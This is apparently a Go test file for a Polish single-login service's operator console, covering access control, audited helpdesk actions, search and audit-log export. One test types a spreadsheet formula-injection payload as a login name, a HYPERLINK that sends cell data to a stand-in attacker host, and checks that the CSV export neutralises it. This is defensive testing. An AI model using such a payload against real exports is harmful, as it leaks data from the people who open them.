package web_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"jedenlogin"
	"jedenlogin/store/storetest"
	"jedenlogin/web"
)

// adminRoute is one console page or admin API endpoint, with what an
// operator's request sends and gets.
type adminRoute struct {
	method, path string
	api          bool
	json         any        // API body
	form         url.Values // page form (the CSRF token is added)
	opStatus     int        // the operator's answer
}

// adminRoutes lists every console route and admin API endpoint; pid is a
// pending person (Adam), done a consolidated one with account data
// (Filip).
func adminRoutes(pid, done int64) []adminRoute {
	reason := url.Values{"sessions_reason": {"zgłoszenie 1"}}
	p := func(format string, args ...any) string { return fmt.Sprintf(format, args...) }
	return []adminRoute{
		{method: "GET", path: "/konsola", opStatus: 200},
		{method: "GET", path: "/konsola/osoby?q=adam1", opStatus: 200},
		{method: "GET", path: p("/konsola/osoby/%d", pid), opStatus: 200},
		{method: "POST", path: p("/konsola/osoby/%d/odblokuj", pid), form: url.Values{"unblock_login": {"ADAM1"}, "unblock_reason": {"zgłoszenie 1"}}, opStatus: 303},
		{method: "POST", path: p("/konsola/osoby/%d/sesje/zakoncz", pid), form: reason, opStatus: 303},
		{method: "POST", path: p("/konsola/osoby/%d/odzyskiwanie", done), form: url.Values{"recovery_kind": {"password"}, "recovery_reason": {"zgłoszenie 1"}}, opStatus: 303},
		{method: "POST", path: p("/konsola/osoby/%d/kontakt", done), form: url.Values{"contact_email": {"filip.nowy@example.pl"}, "contact_phone": {""}, "contact_reason": {"zgłoszenie 1"}}, opStatus: 303},
		{method: "GET", path: "/konsola/dziennik?action=sign_in", opStatus: 200},
		{method: "GET", path: "/konsola/dziennik.csv", opStatus: 200},
		{method: "GET", path: "/api/v1/admin/progress", api: true, opStatus: 200},
		{method: "GET", path: "/api/v1/admin/consolidation", api: true, opStatus: 200},
		{method: "GET", path: "/api/v1/admin/persons?q=adam1", api: true, opStatus: 200},
		{method: "GET", path: p("/api/v1/admin/persons/%d", pid), api: true, opStatus: 200},
		{method: "POST", path: "/api/v1/admin/logins/ADAM1/unlock", api: true, json: map[string]string{"reason": "zgłoszenie 1"}, opStatus: 200},
		{method: "POST", path: p("/api/v1/admin/persons/%d/sessions/end", pid), api: true, json: map[string]string{"reason": "zgłoszenie 1"}, opStatus: 200},
		{method: "POST", path: p("/api/v1/admin/persons/%d/recovery", done), api: true, json: map[string]string{"kind": "login", "reason": "zgłoszenie 1"}, opStatus: 200},
		{method: "PUT", path: p("/api/v1/admin/persons/%d/contact", done), api: true, json: map[string]string{"phone": "600700800", "reason": "zgłoszenie 1"}, opStatus: 200},
		{method: "GET", path: "/api/v1/admin/audit?limit=5", api: true, opStatus: 200},
		// Last: it ends Adam's sessions (no route here uses them).
		{method: "POST", path: "/api/v1/admin/mfa/reset", api: true, json: map[string]string{"login": "ADAM1", "reason": "zgłoszenie 1"}, opStatus: 204},
	}
}

// patternMatches reports whether a route of the table is an instance of
// the mux pattern ("GET /api/v1/admin/persons/{id}").
func patternMatches(pattern string, rt adminRoute) bool {
	method, path, _ := strings.Cut(pattern, " ")
	if method != rt.method {
		return false
	}
	want := strings.Split(path, "/")
	got := strings.Split(strings.SplitN(rt.path, "?", 2)[0], "/")
	if len(want) != len(got) {
		return false
	}
	for i := range want {
		if !strings.HasPrefix(want[i], "{") && want[i] != got[i] {
			return false
		}
	}
	return true
}

// TestAdminRoutesCoverTheAPI: the table the operator-only tests walk has
// every endpoint of the console's API, so a new one cannot go untested.
func TestAdminRoutesCoverTheAPI(t *testing.T) {
	routes := adminRoutes(1, 2)
	for _, pattern := range web.AdminAPIPatterns() {
		if !slices.ContainsFunc(routes, func(rt adminRoute) bool { return rt.api && patternMatches(pattern, rt) }) {
			t.Errorf("adminRoutes has no case for %s", pattern)
		}
	}
	for _, rt := range routes {
		if rt.api && !slices.ContainsFunc(web.AdminAPIPatterns(), func(p string) bool { return patternMatches(p, rt) }) {
			t.Errorf("%s %s is in adminRoutes but not an endpoint of the console's API", rt.method, rt.path)
		}
	}
}

// TestAdminOperatorOnly: every console page and admin endpoint sends a
// visitor without a session to sign in (API: 401), refuses a signed-in
// person without the operator role (403) and serves an operator.
func TestAdminOperatorOnly(t *testing.T) {
	storetest.Run(t, func(t *testing.T, b storetest.Backend) {
		e := newAccountEnv(t, b, web.Config{})
		pid := mustLogin(t, e.st, "ADAM1").PersonID
		done := mustLogin(t, e.st, "FILIP").PersonID
		user := e.mustSignIn("FILIP", pwFilip)
		op := e.mustSignIn("DAREK", pwDarek)
		csrf := func(c *http.Cookie) string {
			return csrfOf(t, e.do(req{method: "GET", path: "/profil", cookies: []*http.Cookie{c}}).Body.String())
		}
		userCSRF, opCSRF := csrf(user), csrf(op)
		for _, rt := range adminRoutes(pid, done) {
			t.Run(rt.method+" "+rt.path, func(t *testing.T) {
				send := func(c *http.Cookie, token string) *httpRecorder {
					r := req{method: rt.method, path: rt.path, json: rt.json}
					if c != nil {
						r.cookies = []*http.Cookie{c}
					}
					if rt.form != nil {
						r.form = url.Values{"csrf": {token}}
						for k, v := range rt.form {
							r.form[k] = v
						}
					}
					return e.do(r)
				}
				anon := send(nil, "")
				if rt.api {
					wantError(t, anon, http.StatusUnauthorized, jedenlogin.EUNAUTHORIZED)
				} else if anon.Code != http.StatusSeeOther || !strings.HasPrefix(anon.Header().Get("Location"), "/logowanie") {
					t.Errorf("signed out: %d %s, want 303 to /logowanie", anon.Code, anon.Header().Get("Location"))
				}
				refused := send(user, userCSRF)
				if rt.api {
					wantError(t, refused, http.StatusForbidden, jedenlogin.EFORBIDDEN)
				} else if refused.Code != http.StatusForbidden || !strings.Contains(refused.Body.String(), "tylko dla operatorów") {
					t.Errorf("non-operator: %d, want 403 saying operators only\n%.500s", refused.Code, refused.Body)
				}
				if got := send(op, opCSRF); got.Code != rt.opStatus {
					t.Errorf("operator: %d, want %d\n%.2000s", got.Code, rt.opStatus, got.Body)
				}
			})
		}
	})
}

// lastAudit returns the newest event with the action.
func (e *env) lastAudit(action string) jedenlogin.AuditEvent {
	e.t.Helper()
	evs := e.audit(action)
	if len(evs) == 0 {
		e.t.Fatalf("no %s event in the audit log", action)
	}
	return evs[0]
}

func wantOperatorEvent(t *testing.T, ev jedenlogin.AuditEvent, reason string) {
	t.Helper()
	if ev.Actor != "operator:DAREK" || !strings.Contains(ev.Details, `"reason":"`+reason+`"`) {
		t.Errorf("%s event by %q with details %s, want by operator:DAREK with reason %q", ev.Action, ev.Actor, ev.Details, reason)
	}
}

func TestAdminHelpdeskActions(t *testing.T) {
	storetest.Run(t, func(t *testing.T, b storetest.Backend) {
		e := newAccountEnv(t, b, web.Config{})
		ctx := context.Background()
		op := e.mustSignIn("DAREK", pwDarek)
		opCSRF := csrfOf(t, e.do(req{method: "GET", path: "/profil", cookies: []*http.Cookie{op}}).Body.String())
		adam := mustLogin(t, e.st, "ADAM1").PersonID
		filip := mustLogin(t, e.st, "FILIP").PersonID
		api := func(method, path string, body any) *httpRecorder {
			return e.do(req{method: method, path: path, json: body, cookies: []*http.Cookie{op}})
		}

		t.Run("reason required", func(t *testing.T) {
			before := len(e.audit(jedenlogin.AuditSessionsEnded))
			m := wantError(t, api("POST", fmt.Sprintf("/api/v1/admin/persons/%d/sessions/end", adam), map[string]string{"reason": "  "}), http.StatusBadRequest, jedenlogin.EINVALID)
			if f, _ := m["fields"].(map[string]any); f["reason"] == nil {
				t.Errorf("no message for the reason: %v", m)
			}
			rec := e.do(req{method: "POST", path: fmt.Sprintf("/konsola/osoby/%d/sesje/zakoncz", adam), cookies: []*http.Cookie{op}, form: url.Values{"csrf": {opCSRF}}})
			if rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), `id="sessions_reason" name="sessions_reason"`) ||
				!strings.Contains(rec.Body.String(), "Podaj powód działania.") || !strings.Contains(rec.Body.String(), `aria-invalid="true"`) {
				t.Errorf("page without a reason: %d\n%s", rec.Code, rec.Body)
			}
			if after := len(e.audit(jedenlogin.AuditSessionsEnded)); after != before {
				t.Errorf("an action without a reason was audited")
			}
		})

		t.Run("unblock", func(t *testing.T) {
			for range 5 {
				e.signIn("ADAM1", "zle-haslo")
			}
			if rec, _ := e.signIn("ADAM1", pwAdam1); rec.Code != http.StatusTooManyRequests {
				t.Fatalf("ADAM1 not blocked: %d", rec.Code)
			}
			page := e.do(req{method: "GET", path: fmt.Sprintf("/konsola/osoby/%d", adam), cookies: []*http.Cookie{op}}).Body.String()
			if !strings.Contains(page, "nieudane próby: 5") || !strings.Contains(page, `action="/konsola/osoby/`+fmt.Sprint(adam)+`/odblokuj"`) {
				t.Fatalf("person page shows no block:\n%s", page)
			}
			rec := e.do(req{method: "POST", path: fmt.Sprintf("/konsola/osoby/%d/odblokuj", adam), cookies: []*http.Cookie{op},
				form: url.Values{"csrf": {opCSRF}, "unblock_login": {"ADAM1"}, "unblock_reason": {"zgłoszenie 77"}}})
			if rec.Code != http.StatusSeeOther {
				t.Fatalf("unblock: %d %s", rec.Code, rec.Body)
			}
			if rec, _ := e.signIn("ADAM1", pwAdam1); rec.Code != http.StatusOK {
				t.Errorf("ADAM1 still blocked after unblock: %d", rec.Code)
			}
			ev := e.lastAudit(jedenlogin.AuditUnblocked)
			wantOperatorEvent(t, ev, "zgłoszenie 77")
			if ev.Subject != "ADAM1" || ev.PersonID == nil || *ev.PersonID != adam {
				t.Errorf("unblock event %+v", ev)
			}
			wantError(t, api("POST", "/api/v1/admin/logins/NIKT/unlock", map[string]string{"reason": "x"}), http.StatusNotFound, jedenlogin.ENOTFOUND)
		})

		t.Run("end sessions", func(t *testing.T) {
			adamSession := e.mustSignIn("ADAM2", pwAdam2)
			rec := api("POST", fmt.Sprintf("/api/v1/admin/persons/%d/sessions/end", adam), map[string]string{"reason": "zgubiony laptop"})
			if rec.Code != http.StatusOK || decode(t, rec)["ended"].(float64) < 1 {
				t.Fatalf("end sessions: %d %s", rec.Code, rec.Body)
			}
			wantError(t, e.do(req{method: "GET", path: "/api/v1/session", cookies: []*http.Cookie{adamSession}}), http.StatusUnauthorized, jedenlogin.EUNAUTHORIZED)
			wantOperatorEvent(t, e.lastAudit(jedenlogin.AuditSessionsEnded), "zgubiony laptop")
		})

		t.Run("password reset link", func(t *testing.T) {
			rec := api("POST", fmt.Sprintf("/api/v1/admin/persons/%d/recovery", filip), map[string]string{"kind": "password", "reason": "nie pamięta hasła"})
			if rec.Code != http.StatusOK || strings.Contains(rec.Body.String(), "reset-hasla") {
				t.Fatalf("recovery: %d %s (the operator must not see the link)", rec.Code, rec.Body)
			}
			ms := e.mails("filip@example.pl")
			if len(ms) != 1 || !strings.Contains(ms[0].Text, publicURL+"/reset-hasla/") || !strings.Contains(ms[0].Text, "FILIP") {
				t.Fatalf("mails to filip: %d %+v", len(ms), ms)
			}
			ev := e.lastAudit(jedenlogin.AuditRecoveryRequested)
			wantOperatorEvent(t, ev, "nie pamięta hasła")
			if ev.Outcome != "sent" || ev.Subject != "FILIP" {
				t.Errorf("recovery event %+v", ev)
			}
			// Adam has three active logins: the operator must pick one.
			m := wantError(t, api("POST", fmt.Sprintf("/api/v1/admin/persons/%d/recovery", adam), map[string]string{"kind": "password", "reason": "x"}), http.StatusBadRequest, jedenlogin.EINVALID)
			if f, _ := m["fields"].(map[string]any); f["login"] == nil {
				t.Errorf("no message for the login: %v", m)
			}
			if rec := api("POST", fmt.Sprintf("/api/v1/admin/persons/%d/recovery", adam), map[string]string{"kind": "password", "login": "ADAM2", "reason": "x"}); rec.Code != http.StatusOK {
				t.Errorf("reset link for ADAM2: %d %s", rec.Code, rec.Body)
			}
		})

		t.Run("contact correction", func(t *testing.T) {
			rec := api("PUT", fmt.Sprintf("/api/v1/admin/persons/%d/contact", filip), map[string]string{"email": "Filip.Nowy@example.pl", "reason": "zmiana adresu, zgł. 5"})
			if rec.Code != http.StatusOK {
				t.Fatalf("contact: %d %s", rec.Code, rec.Body)
			}
			rec2, err := e.st.Person(ctx, filip)
			if err != nil || rec2.Person.Account == nil || rec2.Person.Account.Email != "Filip.Nowy@example.pl" {
				t.Fatalf("account after correction: %+v %v", rec2.Person.Account, err)
			}
			wantOperatorEvent(t, e.lastAudit(jedenlogin.AuditContactChanged), "zmiana adresu, zgł. 5")
			if len(e.mails("filip@example.pl")) < 2 {
				t.Errorf("the old address was not told of the change")
			}
			m := wantError(t, api("PUT", fmt.Sprintf("/api/v1/admin/persons/%d/contact", filip), map[string]string{"email": "nie-adres", "phone": "12", "reason": "x"}), http.StatusBadRequest, jedenlogin.EINVALID)
			if f, _ := m["fields"].(map[string]any); f["email"] == nil || f["phone"] == nil {
				t.Errorf("bad contact data: fields %v", m["fields"])
			}
			wantError(t, api("PUT", fmt.Sprintf("/api/v1/admin/persons/%d/contact", adam), map[string]string{"phone": "600700800", "reason": "x"}), http.StatusConflict, jedenlogin.ECONFLICT)
		})
	})
}

func TestAdminSearchAndPerson(t *testing.T) {
	storetest.Run(t, func(t *testing.T, b storetest.Backend) {
		e := newAccountEnv(t, b, web.Config{})
		op := e.mustSignIn("DAREK", pwDarek)
		adam := mustLogin(t, e.st, "ADAM1").PersonID
		beata := mustLogin(t, e.st, "BEATA1").PersonID
		zofia := mustLogin(t, e.st, "ZKOWAL").PersonID
		search := func(q string) []int64 {
			rec := e.do(req{method: "GET", path: "/api/v1/admin/persons?q=" + url.QueryEscape(q), cookies: []*http.Cookie{op}})
			if rec.Code != http.StatusOK {
				t.Fatalf("search %q: %d %s", q, rec.Code, rec.Body)
			}
			var ids []int64
			for _, p := range decode(t, rec)["persons"].([]any) {
				ids = append(ids, int64(p.(map[string]any)["id"].(float64)))
			}
			return ids
		}
		for _, tc := range []struct {
			q    string
			want []int64
		}{
			{"adam2", []int64{adam}},
			{"BEATA.K", []int64{beata}},
			{"beata@example.pl", []int64{beata}},
			{"Beata Kowalska", []int64{beata}},
			{"KOWALSKA beata", []int64{beata}},
			{"kowalska", []int64{beata}},
			{peselZofia, []int64{zofia}},
			{"nikt-taki", nil},
			{"", nil},
		} {
			if got := search(tc.q); !slices.Equal(got, tc.want) {
				t.Errorf("search %q = %v, want %v", tc.q, got, tc.want)
			}
		}
		page := e.do(req{method: "GET", path: "/konsola/osoby?q=adam1", cookies: []*http.Cookie{op}}).Body.String()
		if !strings.Contains(page, fmt.Sprintf(`href="/konsola/osoby/%d"`, adam)) || !strings.Contains(page, "ADAM1, ADAM1x, ADAM2, ADAM3") && !strings.Contains(page, "ADAM1") {
			t.Errorf("search page does not link Adam:\n%s", page)
		}
		rec := e.do(req{method: "GET", path: fmt.Sprintf("/api/v1/admin/persons/%d", adam), cookies: []*http.Cookie{op}})
		m := decode(t, rec)
		if m["case"] != "choose" || m["state"] != "pending" || len(m["logins"].([]any)) != 4 || len(m["grants"].([]any)) != 4 {
			t.Errorf("person detail: %s", rec.Body)
		}
		if strings.Contains(rec.Body.String(), "password") || strings.Contains(rec.Body.String(), "$argon2") {
			t.Errorf("person detail shows password data: %s", rec.Body)
		}
		wantError(t, e.do(req{method: "GET", path: "/api/v1/admin/persons/999999", cookies: []*http.Cookie{op}}), http.StatusNotFound, jedenlogin.ENOTFOUND)
		// The person page after the transition names what each login was merged into.
		adamC := e.mustSignIn("ADAM1", pwAdam1)
		if rec := e.do(req{method: "POST", path: "/api/v1/consolidation/confirm", cookies: []*http.Cookie{adamC}, json: map[string]string{"login": "ADAM2", "password": pwAdam2}}); rec.Code != http.StatusOK {
			t.Fatalf("confirm: %d %s", rec.Code, rec.Body)
		}
		page = e.do(req{method: "GET", path: fmt.Sprintf("/konsola/osoby/%d", adam), cookies: []*http.Cookie{op}}).Body.String()
		for _, want := range []string{"Zakończono", "login docelowy", "połączony", "<td>ADAM2</td>", "consolidated"} {
			if !strings.Contains(page, want) {
				t.Errorf("person page after the transition lacks %q", want)
			}
		}
	})
}

func TestAdminProgressMatchesPlan(t *testing.T) {
	storetest.Run(t, func(t *testing.T, b storetest.Backend) {
		e := newAccountEnv(t, b, web.Config{})
		op := e.mustSignIn("DAREK", pwDarek)
		sum, err := e.st.PlanSummary(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		m := decode(t, e.do(req{method: "GET", path: "/api/v1/admin/progress", cookies: []*http.Cookie{op}}))
		if int(m["persons"].(float64)) != sum.Persons || int(m["logins"].(float64)) != sum.Logins {
			t.Errorf("progress %v, plan %+v", m, sum)
		}
		for _, c := range m["cases"].([]any) {
			cm := c.(map[string]any)
			cs := jedenlogin.Case(cm["case"].(string))
			if int(cm["pending"].(float64)) != sum.ByCaseState[cs][jedenlogin.StatePending] || int(cm["done"].(float64)) != sum.ByCaseState[cs][jedenlogin.StateDone] {
				t.Errorf("case %s: %v, plan %v", cs, cm, sum.ByCaseState[cs])
			}
		}
		days := m["consolidations_per_day"].([]any)
		if len(days) != 30 || days[29].(map[string]any)["day"] != start.Format("2006-01-02") {
			t.Errorf("per day: %d days, last %v", len(days), days[len(days)-1])
		}
		page := e.do(req{method: "GET", path: "/konsola", cookies: []*http.Cookie{op}}).Body.String()
		for _, want := range []string{`<svg role="img" aria-labelledby="wykres-tytul wykres-opis"`, `<caption id="dziennie-tabela">`, `<rect `} {
			if !strings.Contains(page, want) {
				t.Errorf("progress page lacks %s", want)
			}
		}
	})
}

func TestAdminAuditViewer(t *testing.T) {
	storetest.Run(t, func(t *testing.T, b storetest.Backend) {
		e := newAccountEnv(t, b, web.Config{})
		op := e.mustSignIn("DAREK", pwDarek)
		// A login name typed to attack whoever opens the export in a spreadsheet.
		evil := `=HYPERLINK("http://zly.example/?"&A1,"kliknij")`
		e.signIn(evil, "cokolwiek")
		e.do(req{method: "POST", path: "/api/v1/session", json: map[string]string{"login": "@SUM(1+1)", "password": "x"}, addr: "198.51.100.7:1234"})
		get := func(path string) *httpRecorder {
			return e.do(req{method: "GET", path: path, cookies: []*http.Cookie{op}})
		}
		// Paging by cursor: pages of 2 that neither repeat nor skip.
		var seen []float64
		path := "/api/v1/admin/audit?limit=2"
		for range 20 {
			m := decode(t, get(path))
			for _, ev := range m["events"].([]any) {
				seen = append(seen, ev.(map[string]any)["id"].(float64))
			}
			next, _ := m["next"].(string)
			if next == "" {
				break
			}
			path = "/api/v1/admin/audit?limit=2&before=" + next
		}
		all := decode(t, get("/api/v1/admin/audit?limit=500"))["events"].([]any)
		if len(seen) != len(all) || !slices.IsSortedFunc(seen, func(a, b float64) int { return int(b - a) }) {
			t.Errorf("paged %d events %v, all %d", len(seen), seen, len(all))
		}
		for _, tc := range []struct {
			query string
			want  func(ev map[string]any) bool
			n     int
		}{
			{"action=sign_in_failed&outcome=failed", func(ev map[string]any) bool { return ev["action"] == "sign_in_failed" }, 2},
			{"address=198.51.100.7", func(ev map[string]any) bool { return ev["address"] == "198.51.100.7" }, 1},
			{"actor=DAREK&action=sign_in", func(ev map[string]any) bool { return ev["actor"] == "DAREK" }, 1},
			{"login=" + url.QueryEscape(evil), func(ev map[string]any) bool { return ev["subject"] == evil }, 1},
			{"from=2026-03-10&to=2026-03-10", func(ev map[string]any) bool { return true }, len(all)},
			{"from=2026-03-11", func(ev map[string]any) bool { return true }, 0},
		} {
			evs := decode(t, get("/api/v1/admin/audit?"+tc.query))["events"].([]any)
			if len(evs) != tc.n {
				t.Errorf("%s: %d events, want %d", tc.query, len(evs), tc.n)
			}
			for _, ev := range evs {
				if !tc.want(ev.(map[string]any)) {
					t.Errorf("%s: event %v does not match", tc.query, ev)
				}
			}
		}
		m := wantError(t, get("/api/v1/admin/audit?from=wczoraj&person=abc&limit=100000"), http.StatusBadRequest, jedenlogin.EINVALID)
		if f, _ := m["fields"].(map[string]any); f["from"] == nil || f["person"] == nil || f["limit"] == nil {
			t.Errorf("bad filters: fields %v", m["fields"])
		}
		page := get("/konsola/dziennik?action=sign_in_failed").Body.String()
		if !strings.Contains(page, "HYPERLINK") || !strings.Contains(page, `href="/konsola/dziennik.csv?action=sign_in_failed"`) {
			t.Errorf("viewer page:\n%s", page)
		}
		rec := get("/konsola/dziennik.csv?action=sign_in_failed")
		if rec.Code != 200 || !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/csv") {
			t.Fatalf("csv: %d %v", rec.Code, rec.Header())
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\ufeff"))).ReadAll()
		if err != nil || len(rows) != 3 {
			t.Fatalf("csv rows %d, %v:\n%s", len(rows), err, rec.Body)
		}
		for _, row := range rows[1:] {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("csv cell %q starts a formula", cell)
				}
			}
		}
		if subjects := []string{rows[1][5], rows[2][5]}; !slices.Contains(subjects, "'"+evil) || !slices.Contains(subjects, "'@SUM(1+1)") {
			t.Errorf("csv subjects %q, want neutralised with a quote", subjects)
		}
		if ev := e.lastAudit(jedenlogin.AuditAuditExported); ev.Actor != "operator:DAREK" || !strings.Contains(ev.Details, `"action":"sign_in_failed"`) {
			t.Errorf("export audited as %+v", ev)
		}
	})
}
